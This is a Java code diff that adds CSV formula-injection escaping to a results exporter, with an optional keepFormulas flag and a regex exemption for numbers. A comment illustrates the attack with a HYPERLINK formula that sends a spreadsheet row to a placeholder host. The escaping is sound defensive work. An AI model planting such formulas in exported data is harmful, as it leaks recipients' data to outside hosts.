@@ -22,12 +22,16 @@ import org.bson.json.JsonWriterSettings;
  * response pumps it to the client with back-pressure): memory stays the same for a hundred rows or a million.
  * JSON lines hold each document as stored; CSV holds the columns people open in a spreadsheet, quoted where a value
  * has a comma, a quote or a line break (Chinese text included), UTF-8, with a byte order mark on request (Excel needs
- * it to read UTF-8).
+ * it to read UTF-8). A spreadsheet runs a cell that starts with {@code = + - @} (or a tab or carriage return) as a formula,
+ * and answers and task fields are text from outside ({@code =HYPERLINK("http://x/?"&A2)} sends a row away when clicked):
+ * such a cell is written with a leading {@code '}, which spreadsheets read as "this is text", unless it is a plain number
+ * or the caller keeps formulas.
  */
 public final class ResultsExport extends InputStream {
 
     private static final JsonWriterSettings RELAXED = JsonWriterSettings.builder().outputMode(JsonMode.RELAXED).build();
     private static final byte[] BOM = { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF };
+    private static final java.util.regex.Pattern NUMBER = java.util.regex.Pattern.compile("[-+]?\\d+([.,]\\d+)?([eE][-+]?\\d+)?");
 
     private final MongoCursor<Document> cursor;
     private final Function<Document, byte[]> row;
@@ -50,8 +54,12 @@ public final class ResultsExport extends InputStream {
                 "application/x-ndjson; charset=UTF-8");
     }
 
-    /** The columns: pid, the job's key fields (from the task), its answer, model_name, prompt_version, finish_reason, updated_at. */
-    public static ResultsExport csv(JobDefinition job, MongoCursor<Document> cursor, boolean bom) {
+    /**
+     * The columns: pid, the job's key fields (from the task), its answer, model_name, prompt_version, finish_reason, updated_at.
+     *
+     * @param keepFormulas write a cell that a spreadsheet would run as a formula as it is stored, without the leading '
+     */
+    public static ResultsExport csv(JobDefinition job, MongoCursor<Document> cursor, boolean bom, boolean keepFormulas) {
         List<String> header = new ArrayList<>();
         header.add("pid");
         for (String k : job.keyFields()) {
@@ -61,7 +69,7 @@ public final class ResultsExport extends InputStream {
         }
         header.add(job.outputField());
         header.addAll(List.of("model_name", "prompt_version", "finish_reason", "updated_at"));
-        byte[] head = line(header);
+        byte[] head = line(header, true);
         if (bom) {
             byte[] withBom = new byte[BOM.length + head.length];
             System.arraycopy(BOM, 0, withBom, 0, BOM.length);
@@ -80,22 +88,31 @@ public final class ResultsExport extends InputStream {
             values.add(d.get("prompt_version"));
             values.add(d.get("finish_reason"));
             values.add(d.get("updated_at") instanceof Date u ? Instant.ofEpochMilli(u.getTime()).toString() : d.get("updated_at"));
-            return line(values);
+            return line(values, keepFormulas);
         }, "text/csv; charset=UTF-8");
     }
 
-    private static byte[] line(List<?> values) {
+    private static byte[] line(List<?> values, boolean keepFormulas) {
         StringBuilder out = new StringBuilder();
         try (CSVPrinter p = new CSVPrinter(out, CSVFormat.RFC4180.builder().setQuoteMode(QuoteMode.MINIMAL).get())) {
             List<String> texts = new ArrayList<>(values.size());
             for (Object v : values) {
-                texts.add(v == null ? "" : v instanceof Document doc ? doc.toJson(RELAXED) : String.valueOf(v));
+                String text = v == null ? "" : v instanceof Document doc ? doc.toJson(RELAXED) : String.valueOf(v);
+                texts.add(keepFormulas || !runsAsFormula(text) ? text : "'" + text);
             }
             p.printRecord(texts);
         } catch (IOException e) {
             throw new IllegalStateException(e);
         }
         return out.toString().getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** Whether a spreadsheet would take the cell for a formula (OWASP's "CSV injection" list), a plain number aside. */
+    static boolean runsAsFormula(String text) {
+        if (text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0) {
+            return false;
+        }
+        return !NUMBER.matcher(text).matches();
     }
 
     public String contentType() {
